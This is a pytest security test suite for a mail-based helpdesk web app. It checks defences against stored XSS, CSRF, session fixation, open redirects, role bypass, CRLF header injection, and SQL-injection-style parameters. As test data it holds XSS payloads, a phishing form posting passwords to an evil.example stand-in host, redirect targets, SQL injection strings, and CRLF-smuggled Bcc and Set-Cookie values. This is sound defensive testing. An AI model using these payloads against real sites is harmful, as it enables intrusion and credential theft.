"""Attacks on the web pages by a customer who writes mail and by a signed-in
agent who forges requests: stored XSS, CSRF, redirects, other queues,
attachment downloads, bad ids and parameters, and the layout at 390 px.

The sign-in lockout test locks out 127.0.0.1 on this module's site, so it
is the last test of the file.
"""

from __future__ import annotations

import re
import smtplib
from collections.abc import Iterator
from contextlib import contextmanager
from email.message import EmailMessage

import httpx
import pytest

from tests.browser import PASSWORD, SUPPORT, browser, screenshot, sign_in, site  # noqa: F401  (fixtures)

XSS = '<script>alert(1)</script><img src=x onerror=alert(2)>"\'><svg onload=alert(3)>'

HOSTILE_HTML = """<html><head>
<meta http-equiv="refresh" content="0;url=/signout">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
</head><body>
<p onclick="alert(5)">overlay</p>
<script>alert(6)</script>
<a href="javascript:alert(7)">js link</a>
<a href="data:text/html,&lt;script&gt;alert(8)&lt;/script&gt;">data link</a>
<svg><script>alert(11)</script><a xlink:href="javascript:alert(12)"><text>svg</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(13)></style></mglyph></table></mtext></math>
<form action="https://evil.example/steal" method="post"><input name="password"><button>Sign in again</button></form>
<iframe src="https://evil.example/"></iframe><object data="x"></object>
<noscript><p title="</noscript><img src=x onerror=alert(15)>"></noscript>
<input autofocus onfocus="alert(17)">
<details open ontoggle="alert(18)">d</details>
<img src='cid:logo@example.com" onerror="alert(10)'>
</body></html>"""


@contextmanager
def client_for(site, username: str) -> Iterator[httpx.Client]:
    """Yield an httpx client signed in as ``username``; its CSRF token is
    in ``client.csrf``."""
    with httpx.Client(base_url=site.base_url, timeout=60) as client:
        client.csrf = csrf_of(client.get("/signin").text)
        response = client.post("/signin", data={
            "csrf_token": client.csrf, "username": username, "password": PASSWORD})
        assert response.status_code == 303
        client.csrf = csrf_of(client.get("/tickets").text)
        yield client


def csrf_of(html: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


def flashes(html: str) -> list[str]:
    return re.findall(r'class="flash [a-z]+"[^>]*>([^<]*)<', html)


def web_changes(site, ticket_id: int) -> list[str]:
    """Return the actions in the ticket's history done through the web pages."""
    return [entry["action"] for entry in site.history(ticket_id) if entry["channel"] == "web"]


def send_raw(site, raw: bytes, to: str = SUPPORT) -> None:
    with smtplib.SMTP("127.0.0.1", site.smtp_port, timeout=30) as smtp:
        smtp.sendmail("customer@example.com", [to], raw)


def new_ticket(site, subject: str, to: str = SUPPORT) -> int:
    site.send(subject, to=to)
    return site.ticket_id(subject)


@pytest.fixture(scope="module")
def hostile_ticket(site) -> int:
    """A ticket from a mail whose subject, From name, HTML and attachment
    names carry script."""
    message = EmailMessage()
    message["From"] = '"<svg onload=alert(20)>Eve" <eve@example.com>'
    message["To"] = SUPPORT
    message["Subject"] = "Hostile " + XSS
    message.set_content("plain <script>alert(21)</script>")
    message.add_alternative(HOSTILE_HTML, subtype="html")
    message.add_attachment(b"<html><script>alert(22)</script></html>", maintype="text",
                           subtype="html", filename="<img src=x onerror=alert(23)>.html")
    message.add_attachment(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(24)"/>',
                           maintype="image", subtype="svg+xml", filename="picture.svg")
    send_raw(site, message.as_bytes())
    return site.ticket_id("Hostile " + XSS)


def watch(page) -> tuple[list[str], list[str]]:  # type: ignore[no-untyped-def]
    """Record the page's dialogs and its requests to other sites."""
    dialogs: list[str] = []
    foreign: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: foreign.append(request.url)
            if not request.url.startswith(("http://127.0.0.1", "data:")) else None)
    return dialogs, foreign


# -- stored XSS ----------------------------------------------------------------

def test_hostile_mail_runs_no_script(browser, site, hostile_ticket):
    page = sign_in(browser, site, "mia")
    dialogs, foreign = watch(page)
    for path in ("/tickets", *(f"/tickets/{hostile_ticket}?tab={tab}"
                                for tab in ("info", "messages", "notes", "history"))):
        page.goto(path)
        page.wait_for_timeout(300)
        assert page.url == f"{site.base_url}{path}"
    assert dialogs == []
    assert foreign == []
    page.goto(f"/tickets/{hostile_ticket}?tab=messages")
    html = page.locator(".mail-html")
    assert html.count() == 1
    for selector in ("script", "meta", "base", "link", "form", "iframe", "object", "input",
                     "[onclick]", "[onerror]", "[onload]", "[onfocus]", "[ontoggle]",
                     "a[href^='javascript']", "a[href^='data']"):
        assert html.locator(selector).count() == 0, selector
    assert page.locator("h1").inner_text() == f"#{hostile_ticket} Hostile {XSS}"
    page.context.close()


def test_agent_fields_are_shown_as_text(browser, site):
    ticket_id = new_ticket(site, "Hostile: agent fields")
    page = sign_in(browser, site, "ana")
    dialogs, _ = watch(page)
    page.goto(f"/tickets/{ticket_id}?tab=info")
    page.fill("input[name=ticket_type]", XSS)
    page.fill("input[name=tags]", "<b>bold</b>")
    page.click("#info-form button[type=submit]")
    assert page.locator(".flash").inner_text() == "Ticket saved."
    assert page.locator("input[name=ticket_type]").input_value() == XSS
    assert page.locator("input[name=tags]").input_value() == "<b>bold</b>"
    page.goto(f"/tickets/{ticket_id}?tab=notes")
    page.fill("#note-form textarea[name=body]", XSS)
    page.click("#note-form button[type=submit]")
    assert page.locator("article.note .note-body").inner_text() == XSS
    page.goto(f"/tickets/{ticket_id}?tab=history")
    assert page.locator("tr[data-action=note_added]").count() == 1
    page.goto("/tickets?tag=%3Cb%3Ebold%3C%2Fb%3E")
    assert page.locator("span.tag").first.inner_text() == "<b>bold</b>"
    assert dialogs == []
    page.context.close()


def test_error_flash_is_shown_as_text(site):
    ticket_id = new_ticket(site, "Hostile: flash")
    with client_for(site, "ana") as client:
        response = client.post(f"/tickets/{ticket_id}/update", data={
            "csrf_token": client.csrf, "queue": "Support", "stage": "new",
            "assignee": "<script>alert(1)</script>"}, follow_redirects=True)
    assert flashes(response.text) == ["user &#39;&lt;script&gt;alert(1)&lt;/script&gt;&#39; not found"]
    assert "<script>alert(1)" not in response.text


# -- attachments ------------------------------------------------------------------

def test_html_and_svg_attachments_download(site, hostile_ticket):
    with client_for(site, "mia") as client:
        page = client.get(f"/tickets/{hostile_ticket}?tab=info").text
        links = re.findall(rf'href="(/tickets/{hostile_ticket}/attachments/\d+)">([^<]+)<', page)
        assert len(links) == 2
        for link, name in links:
            response = client.get(link)
            assert response.status_code == 200
            assert response.headers["content-type"] == "application/octet-stream", name
            assert response.headers["content-disposition"].startswith("attachment;"), name
            assert response.headers["content-security-policy"].startswith("sandbox"), name
            assert response.headers["x-content-type-options"] == "nosniff"


def test_attachment_of_other_ticket_is_not_found(site, hostile_ticket):
    other = new_ticket(site, "Hostile: other ticket")
    with client_for(site, "mia") as client:
        page = client.get(f"/tickets/{hostile_ticket}?tab=info").text
        attachment_id = re.search(rf'/tickets/{hostile_ticket}/attachments/(\d+)"', page).group(1)
        download = client.get(f"/tickets/{other}/attachments/{attachment_id}")
        remove = client.post(f"/tickets/{other}/attachments/{attachment_id}/remove",
                             data={"csrf_token": client.csrf}, follow_redirects=True)
    assert download.status_code == 404
    assert flashes(remove.text) == [f"attachment {attachment_id} not found on ticket {other}"]


def test_filename_with_line_break_downloads(site):
    """A customer's mail can name an attachment with CR LF (RFC 2231); the
    download must neither fail nor split the response header."""
    raw = (
        "From: crlf@example.com\r\nTo: support@support.example.org\r\n"
        "Subject: Hostile: CRLF filename\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=BB\r\n\r\n"
        "--BB\r\nContent-Type: text/plain\r\n\r\nhello\r\n"
        "--BB\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment;"
        " filename*=utf-8''a%0D%0ASet-Cookie%3A%20x%3D1%01.html\r\n\r\nAAAA\r\n"
        "--BB--\r\n"
    )
    send_raw(site, raw.encode())
    ticket_id = site.ticket_id("Hostile: CRLF filename")
    with client_for(site, "ana") as client:
        page = client.get(f"/tickets/{ticket_id}?tab=info").text
        link = re.search(rf'/tickets/{ticket_id}/attachments/\d+', page).group(0)
        response = client.get(link)
    assert response.status_code == 200
    assert response.content == b"AAAA"
    assert "set-cookie" not in response.headers
    assert response.headers["content-disposition"] == (
        "attachment; filename=\"aSet-Cookie: x=1.html\"; "
        "filename*=UTF-8''aSet-Cookie%3A%20x%3D1.html")


def test_upload_over_limit_is_refused(site):
    ticket_id = new_ticket(site, "Hostile: big upload")
    with client_for(site, "ana") as client:
        response = client.post(
            f"/tickets/{ticket_id}/attachments", data={"csrf_token": client.csrf},
            files={"file": ("big.bin", b"x" * (25 * 1024 * 1024 + 1), "application/octet-stream")},
            follow_redirects=True)
    assert flashes(response.text) == ["big.bin is larger than 25 MiB."]
    assert "big.bin</a>" not in response.text


def test_long_flash_keeps_the_cookie_small(site):
    """Browsers drop a cookie over 4096 bytes, and the flash of an upload
    names the file."""
    ticket_id = new_ticket(site, "Hostile: emoji filename")
    name = "\U0001F600" * 300 + ".txt"
    with client_for(site, "ana") as client:
        response = client.post(f"/tickets/{ticket_id}/attachments", data={"csrf_token": client.csrf},
                               files={"file": (name, b"x", "text/plain")})
        page = client.get(response.headers["location"]).text
    assert response.status_code == 303
    assert len(response.headers["set-cookie"]) < 4096
    [message] = flashes(page)
    assert message.startswith("\U0001F600" * 50)
    assert message.endswith("…")


# -- CSRF, sessions and redirects ------------------------------------------------------

def test_other_sessions_token_is_refused(site):
    ticket_id = new_ticket(site, "Hostile: foreign token")
    with client_for(site, "ana") as ana, client_for(site, "mia") as mia:
        response = ana.post(f"/tickets/{ticket_id}/notes",
                            data={"csrf_token": mia.csrf, "body": "forged"})
        empty = ana.post(f"/tickets/{ticket_id}/notes", data={"csrf_token": "", "body": "forged"})
    assert response.status_code == 403
    assert empty.status_code == 403
    assert web_changes(site, ticket_id) == []


def test_state_changes_need_post(site):
    ticket_id = new_ticket(site, "Hostile: GET close")
    with client_for(site, "mia") as client:
        for path in (f"/tickets/{ticket_id}/close", f"/tickets/{ticket_id}/reopen",
                     "/signout", "/tickets/bulk", "/tray/read-all"):
            # /tickets/bulk reads as the page of a ticket with a non-number id.
            assert client.get(path).status_code in (404, 405), path
    assert web_changes(site, ticket_id) == []


def test_signin_replaces_session(site):
    """The cookie from before sign-in (session fixation) opens nothing."""
    with httpx.Client(base_url=site.base_url) as client:
        token = csrf_of(client.get("/signin").text)
        before = client.cookies["mailgate_session"]
        client.post("/signin", data={"csrf_token": token, "username": "ana", "password": PASSWORD})
        after_token = csrf_of(client.get("/tickets").text)
    assert after_token != token
    with httpx.Client(base_url=site.base_url, cookies={"mailgate_session": before}) as stale:
        response = stale.get("/tickets")
    assert response.status_code == 303
    assert response.headers["location"].startswith("/signin")


def test_signout_revokes_copied_cookie(site):
    with client_for(site, "ana") as client:
        copied = client.cookies["mailgate_session"]
        client.post("/signout", data={"csrf_token": client.csrf})
    with httpx.Client(base_url=site.base_url, cookies={"mailgate_session": copied}) as thief:
        response = thief.get("/tickets")
    assert response.status_code == 303


@pytest.mark.parametrize("target", [
    "//evil.example/", "/\\evil.example", "/\t/evil.example", "https://evil.example",
    "\\/evil.example", "/\r\n/evil.example", "javascript:alert(1)", "///evil.example",
])
def test_signin_next_stays_on_site(site, target):
    with httpx.Client(base_url=site.base_url) as client:
        token = csrf_of(client.get("/signin").text)
        response = client.post("/signin", data={
            "csrf_token": token, "username": "ana", "password": PASSWORD, "next": target})
        again = client.get("/signin", params={"next": target})
    assert response.headers["location"] == "/tickets"
    assert again.headers["location"] == "/tickets"


# -- roles and forged fields --------------------------------------------------------

def test_frontline_cannot_change_other_queue(site):
    ticket_id = new_ticket(site, "Hostile: billing", to="billing@support.example.org")
    with client_for(site, "ana") as client:
        for path, data in (
            (f"/tickets/{ticket_id}/notes", {"body": "x"}),
            (f"/tickets/{ticket_id}/update", {"queue": "Support"}),
            (f"/tickets/{ticket_id}/quick", {"field": "queue", "value": "Support"}),
            (f"/tickets/{ticket_id}/postpone", {"count": "1", "unit": "d"}),
            (f"/tickets/{ticket_id}/forward", {"recipients": "x@example.com"}),
        ):
            response = client.post(path, data={**data, "csrf_token": client.csrf})
            assert response.status_code == 403, path
        upload = client.post(f"/tickets/{ticket_id}/attachments", data={"csrf_token": client.csrf},
                             files={"file": ("a.txt", b"x", "text/plain")})
        bulk = client.post("/tickets/bulk", data={
            "csrf_token": client.csrf, "ticket": str(ticket_id), "action": "queue",
            "value_queue": "Support"})
    assert upload.status_code == 403
    assert f"#{ticket_id}: failed: ana lacks permission ticket.all_queues" in bulk.text
    assert web_changes(site, ticket_id) == []


def test_frontline_cannot_close_by_forged_form(site):
    ticket_id = new_ticket(site, "Hostile: forged close")
    with client_for(site, "ana") as client:
        for path, data in (
            (f"/tickets/{ticket_id}/close", {}),
            (f"/tickets/{ticket_id}/explain-close", {"reason": "x"}),
            (f"/tickets/{ticket_id}/update", {"queue": "Support", "stage": "closed"}),
            (f"/tickets/{ticket_id}/quick", {"field": "stage", "value": "closed"}),
        ):
            response = client.post(path, data={**data, "csrf_token": client.csrf})
            assert response.status_code == 403, path
        bulk = client.post("/tickets/bulk", data={
            "csrf_token": client.csrf, "ticket": str(ticket_id), "action": "close"})
    assert f"#{ticket_id}: failed: ana lacks permission ticket.close" in bulk.text
    assert web_changes(site, ticket_id) == []


def test_frontline_cannot_reopen(site):
    ticket_id = new_ticket(site, "Hostile: forged reopen")
    with client_for(site, "mia") as manager:
        closed = manager.post(f"/tickets/{ticket_id}/close", data={"csrf_token": manager.csrf})
    assert closed.status_code == 303
    with client_for(site, "ana") as client:
        for path, data in (
            (f"/tickets/{ticket_id}/reopen", {}),
            (f"/tickets/{ticket_id}/update", {"queue": "Support", "stage": "new"}),
            (f"/tickets/{ticket_id}/quick", {"field": "stage", "value": "open"}),
        ):
            response = client.post(path, data={**data, "csrf_token": client.csrf})
            assert response.status_code == 403, path
    assert web_changes(site, ticket_id) == ["closed"]


def test_unknown_assignee_is_refused(site):
    ticket_id = new_ticket(site, "Hostile: ghost assignee")
    with client_for(site, "ana") as client:
        response = client.post(f"/tickets/{ticket_id}/update", data={
            "csrf_token": client.csrf, "queue": "Support", "stage": "new", "assignee": "ghost"},
            follow_redirects=True)
        bulk = client.post("/tickets/bulk", data={
            "csrf_token": client.csrf, "ticket": str(ticket_id), "action": "assignee",
            "value_assignee": "ghost"})
    assert flashes(response.text) == ["user &#39;ghost&#39; not found"]
    assert f"#{ticket_id}: failed: user &#39;ghost&#39; not found" in bulk.text
    assert web_changes(site, ticket_id) == []


def test_other_users_tray_item_is_not_found(site):
    with client_for(site, "ana") as client:
        response = client.post("/tray/1/read", data={"csrf_token": client.csrf})
    assert response.status_code == 404


# -- bad ids and parameters ---------------------------------------------------------

@pytest.mark.parametrize("path", [
    "/tickets/99999999999999999999999", "/tickets/-1", "/tickets/0", "/tickets/abc",
    "/tickets/1/attachments/99999999999999999999", "/tickets/1/attachments/x",
])
def test_bad_ticket_id_is_not_found(site, path):
    with client_for(site, "mia") as client:
        response = client.get(path)
    assert response.status_code == 404
    assert response.headers["content-type"].startswith("text/html")


@pytest.mark.parametrize("path", [
    "/tickets/99999999999999999999/close", "/tickets/1/attachments/99999999999999999999/remove",
    "/tray/99999999999999999999/read",
])
def test_bad_id_in_form_action_is_not_found(site, path):
    with client_for(site, "mia") as client:
        response = client.post(path, data={"csrf_token": client.csrf})
    assert response.status_code == 404


@pytest.mark.parametrize("query", [
    "page=99999999999999999999", "page=9223372036854775807", "page=-5", "per_page=100000",
    "sort=id;drop table tickets", "order=asc;--", "q=%27%20OR%201=1--", "q=%25", "q=%00",
    "due_before=9999-99-99", "assignee=%27", "tag=%00",
])
def test_odd_dashboard_parameters(site, query):
    with client_for(site, "mia") as client:
        response = client.get(f"/tickets?{query}")
    assert response.status_code == 200


def test_non_number_page_is_an_error_page(site):
    with client_for(site, "mia") as client:
        response = client.get("/tickets?page=abc")
    assert response.status_code == 400
    assert flashes(response.text) == ["invalid value of page; check the link and try again"]


@pytest.mark.parametrize("ticket", ["²", "99999999999999999999999", "-1"])
def test_bulk_with_odd_ticket_number(site, ticket):
    with client_for(site, "mia") as client:
        response = client.post("/tickets/bulk", data={
            "csrf_token": client.csrf, "ticket": ticket, "action": "stage",
            "value_stage": "open"}, follow_redirects=True)
    assert response.status_code == 200
    assert flashes(response.text) == ["Check at least one ticket first."]


@pytest.mark.parametrize("next_path", ["/tickets?page=²", "/tickets?page=99999999999999999999"])
def test_bulk_with_odd_page_to_return_to(site, next_path):
    ticket_id = new_ticket(site, f"Hostile: bulk back to {next_path}")
    with client_for(site, "mia") as client:
        response = client.post("/tickets/bulk", data={
            "csrf_token": client.csrf, "ticket": str(ticket_id), "action": "stage",
            "value_stage": "open", "next": next_path})
    assert response.status_code == 200
    assert f'<li class="ok" data-ticket="{ticket_id}">' in response.text


def test_postpone_amount_outside_the_list_is_refused(site):
    ticket_id = new_ticket(site, "Hostile: postpone amount")
    with client_for(site, "ana") as client:
        quick = client.post(f"/tickets/{ticket_id}/quick", data={
            "csrf_token": client.csrf, "field": "postpone", "value": "99999999999w"},
            follow_redirects=True)
        bulk = client.post("/tickets/bulk", data={
            "csrf_token": client.csrf, "ticket": str(ticket_id), "action": "postpone",
            "value_postpone": "99999999999w"}, follow_redirects=True)
    assert flashes(quick.text) == [
        f"Ticket {ticket_id}: invalid postpone amount &#39;99999999999w&#39;; choose one of the list"]
    assert flashes(bulk.text) == ["Invalid postpone amount &#39;99999999999w&#39;; choose one of the list."]
    assert web_changes(site, ticket_id) == []


@pytest.mark.parametrize("until", ["9999-12-31T23:00-05:00", "0001-01-01T00:00+05:00"])
def test_postpone_to_date_out_of_range(site, until):
    ticket_id = new_ticket(site, f"Hostile: postpone until {until}")
    with client_for(site, "ana") as client:
        response = client.post(f"/tickets/{ticket_id}/postpone",
                               data={"csrf_token": client.csrf, "until": until})
    assert response.status_code == 303
    assert web_changes(site, ticket_id) == []


def test_new_ticket_with_line_break_in_address(site):
    with client_for(site, "ana") as client:
        response = client.post("/tickets/new", data={
            "csrf_token": client.csrf, "queue": "Support",
            "requester_email": "a@example.com\r\nBcc: x@evil.example",
            "subject": "Hostile\r\nBcc: y@evil.example"})
    assert response.status_code == 400
    assert "is not an email address" in response.text


# -- layout ---------------------------------------------------------------------

def test_long_subject_fits_phone_width(browser, site):
    subject = "Hostile: long " + "W" * 300 + " \u202egnp.exe\u202c"
    ticket_id = new_ticket(site, subject)
    page = sign_in(browser, site, "ana", viewport_width=390)
    for path in ("/tickets", f"/tickets/{ticket_id}?tab=info", f"/tickets/{ticket_id}?tab=messages"):
        page.goto(path)
        assert page.evaluate("document.documentElement.scrollWidth") <= 390, path
    screenshot(page, "hostile-long-subject-390")
    page.context.close()


def test_bidi_override_not_shown(browser, site):
    ticket_id = new_ticket(site, "Invoice \u202egnp.exe\u202c attached")
    page = sign_in(browser, site, "ana")
    for path in ("/tickets?q=Invoice", f"/tickets/{ticket_id}"):
        page.goto(path)
        html = page.content()
        assert "\u202e" not in html, path
        assert "Invoice gnp.exe attached" in page.locator("body").inner_text(), path
    page.context.close()


def test_missing_tray_item_gets_html_page(site):
    with client_for(site, "ana") as client:
        response = client.post("/tray/999999/read", data={"csrf_token": client.csrf})
    assert response.status_code == 404
    assert response.headers["content-type"].startswith("text/html")
    assert "tray item 999999 not found" in response.text


# -- sign-in lockout: keep last, it locks out 127.0.0.1 on this site ------------------

def test_signin_locks_after_five_failures(site):
    with httpx.Client(base_url=site.base_url) as client:
        token = csrf_of(client.get("/signin").text)
        codes = [client.post("/signin", data={
            "csrf_token": token, "username": "root", "password": f"wrong {attempt}"}).status_code
            for attempt in range(6)]
        right = client.post("/signin", data={
            "csrf_token": token, "username": "root", "password": PASSWORD})
    assert codes == [401, 401, 401, 401, 401, 429]
    assert right.status_code == 429
    with httpx.Client(base_url=site.base_url) as client:
        token = csrf_of(client.get("/signin").text)
        other_user = client.post("/signin", data={
            "csrf_token": token, "username": "mia", "password": PASSWORD})
    assert other_user.status_code == 303

